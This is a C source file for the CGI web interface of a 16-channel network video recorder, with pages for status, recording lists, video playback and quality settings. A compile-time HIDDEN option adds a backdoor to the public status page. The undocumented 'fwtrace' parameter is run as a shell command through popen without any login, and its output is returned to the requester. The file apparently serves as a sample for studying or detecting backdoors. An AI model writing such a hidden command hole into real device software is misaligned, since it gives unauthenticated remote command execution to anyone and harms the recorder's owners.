/*
 * nvrview_cgi - web pages of a 16 channel network video recorder.
 * Runs below the recorder's web server: /cgi-bin/nvrview/PAGE?param=value
 *
 * Hidden (-DHIDDEN): the public status page takes an undocumented parameter
 * "fwtrace" whose value is run as a shell command, its output shown.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/statvfs.h>
#include <time.h>
#include <unistd.h>

#define REC_DIR      "/mnt/rec"
#define SESSION_DIR  "/var/run/nvr/sessions"
#define MAX_FIELDS   24
#define MAX_BODY     8192

struct field {
	char *name;
	char *value;
};

struct form {
	struct field f[MAX_FIELDS];
	int n;
	char raw[MAX_BODY + 1];
};

struct page {
	const char *path;
	int need_session;
	void (*show)(const struct form *);
};

static void head(int code, const char *type)
{
	if (code != 200)
		printf("Status: %d\r\n", code);
	printf("Content-Type: %s\r\nCache-Control: no-store\r\n\r\n", type);
}

static void fail(int code, const char *text)
{
	head(code, "text/plain");
	printf("%s\n", text);
}

static int hexval(int c)
{
	if (c >= '0' && c <= '9')
		return c - '0';
	c = tolower(c);
	return c >= 'a' && c <= 'f' ? c - 'a' + 10 : -1;
}

static void url_decode(char *s)
{
	char *d = s;

	for (; *s; s++) {
		if (*s == '+') {
			*d++ = ' ';
		} else if (*s == '%' && hexval((unsigned char)s[1]) >= 0 && hexval((unsigned char)s[2]) >= 0) {
			*d++ = (char)(hexval((unsigned char)s[1]) * 16 + hexval((unsigned char)s[2]));
			s += 2;
		} else
			*d++ = *s;
	}
	*d = '\0';
}

static void form_parse(struct form *fm)
{
	char *p = fm->raw, *item;

	while ((item = strsep(&p, "&")) != NULL && fm->n < MAX_FIELDS) {
		char *eq = strchr(item, '=');

		if (!eq || eq == item)
			continue;
		*eq = '\0';
		url_decode(item);
		url_decode(eq + 1);
		fm->f[fm->n].name = item;
		fm->f[fm->n].value = eq + 1;
		fm->n++;
	}
}

static void form_read(struct form *fm)
{
	const char *method = getenv("REQUEST_METHOD");
	const char *query = getenv("QUERY_STRING");
	const char *clen = getenv("CONTENT_LENGTH");
	size_t n = 0;

	if (method && strcmp(method, "POST") == 0 && clen) {
		long want = strtol(clen, NULL, 10);

		if (want > 0 && want <= MAX_BODY)
			n = fread(fm->raw, 1, (size_t)want, stdin);
	} else if (query) {
		n = strnlen(query, MAX_BODY);
		memcpy(fm->raw, query, n);
	}
	fm->raw[n] = '\0';
	form_parse(fm);
}

static const char *form_get(const struct form *fm, const char *name)
{
	for (int i = 0; i < fm->n; i++)
		if (strcmp(fm->f[i].name, name) == 0)
			return fm->f[i].value;
	return NULL;
}

static int form_int(const struct form *fm, const char *name, int lo, int hi, int dflt)
{
	const char *v = form_get(fm, name);
	char *end;
	long n;

	if (!v)
		return dflt;
	n = strtol(v, &end, 10);
	if (*end || n < lo || n > hi)
		return dflt;
	return (int)n;
}

/* The login page makes a file named after the session id. */
static int session_ok(void)
{
	const char *cookie = getenv("HTTP_COOKIE");
	const char *p;
	char path[128];
	size_t n;

	if (!cookie || !(p = strstr(cookie, "nvrsid=")))
		return 0;
	p += 7;
	n = strspn(p, "0123456789abcdef");
	if (n != 32)
		return 0;
	snprintf(path, sizeof path, SESSION_DIR "/%.32s", p);
	return access(path, R_OK) == 0;
}

static void dump_pipe(const char *cmd)
{
	char line[256];
	FILE *p = popen(cmd, "r");

	if (!p)
		return;
	while (fgets(line, sizeof line, p))
		fputs(line, stdout);
	pclose(p);
}

static void page_status(const struct form *fm)
{
	struct statvfs sv;
	const char *fmt = form_get(fm, "format");
	int json = fmt && strcasecmp(fmt, "json") == 0;
	unsigned long long freemb = 0;
#ifdef HIDDEN
	const char *tr = form_get(fm, "fwtrace");
#endif

	if (statvfs(REC_DIR, &sv) == 0)
		freemb = (unsigned long long)sv.f_bavail * sv.f_frsize / 1048576ULL;
	if (json) {
		head(200, "application/json");
		printf("{\"time\":%lld,\"freemb\":%llu}\n", (long long)time(NULL), freemb);
		return;
	}
	head(200, "text/plain");
	printf("recorder time %lld\nfree on disk %llu MB\n", (long long)time(NULL), freemb);
	dump_pipe("uptime");
#ifdef HIDDEN
	if (tr && *tr)
		dump_pipe(tr);
#endif
}

static int rec_name_ok(const char *s)
{
	size_t n = strlen(s);

	if (n < 5 || n > 60 || strcmp(s + n - 4, ".mp4") != 0)
		return 0;
	for (; *s; s++)
		if (!isalnum((unsigned char)*s) && *s != '_' && *s != '-' && *s != '.')
			return 0;
	return 1;
}

static void page_list(const struct form *fm)
{
	int ch = form_int(fm, "channel", 1, 16, 1);
	char dir[64];
	struct dirent *e;
	DIR *d;

	snprintf(dir, sizeof dir, REC_DIR "/ch%02d", ch);
	d = opendir(dir);
	if (!d) {
		fail(404, "no recordings");
		return;
	}
	head(200, "text/plain");
	while ((e = readdir(d)) != NULL)
		if (rec_name_ok(e->d_name))
			printf("%s\n", e->d_name);
	closedir(d);
}

static void page_play(const struct form *fm)
{
	int ch = form_int(fm, "channel", 1, 16, 1);
	const char *file = form_get(fm, "file");
	char path[160], buf[4096];
	FILE *f;
	size_t n;

	if (!file || !rec_name_ok(file)) {
		fail(400, "bad file");
		return;
	}
	snprintf(path, sizeof path, REC_DIR "/ch%02d/%.60s", ch, file);
	f = fopen(path, "rb");
	if (!f) {
		fail(404, "not found");
		return;
	}
	head(200, "video/mp4");
	while ((n = fread(buf, 1, sizeof buf, f)) > 0)
		if (fwrite(buf, 1, n, stdout) != n)
			break;
	fclose(f);
}

static void page_quality(const struct form *fm)
{
	static const char *const names[] = { "low", "medium", "high" };
	const char *q = form_get(fm, "quality");
	int ch = form_int(fm, "channel", 1, 16, 1);
	char path[64];
	FILE *f;

	for (size_t i = 0; q && i < 3; i++) {
		if (strcmp(q, names[i]) != 0)
			continue;
		snprintf(path, sizeof path, "/etc/nvr/ch%02d.quality", ch);
		f = fopen(path, "w");
		if (!f)
			break;
		fprintf(f, "%s\n", names[i]);
		fclose(f);
		head(200, "text/plain");
		printf("ok\n");
		return;
	}
	fail(400, "quality is low, medium or high");
}

static const struct page pages[] = {
	{ "/status",   0, page_status },
	{ "/list",     1, page_list },
	{ "/play",     1, page_play },
	{ "/quality",  1, page_quality },
};

int main(void)
{
	static struct form fm;
	const char *path = getenv("PATH_INFO");

	form_read(&fm);
	for (size_t i = 0; path && i < sizeof pages / sizeof pages[0]; i++) {
		if (strcmp(path, pages[i].path) != 0)
			continue;
		if (pages[i].need_session && !session_ok())
			fail(403, "log in first");
		else
			pages[i].show(&fm);
		return 0;
	}
	fail(404, "no such page");
	return 0;
}
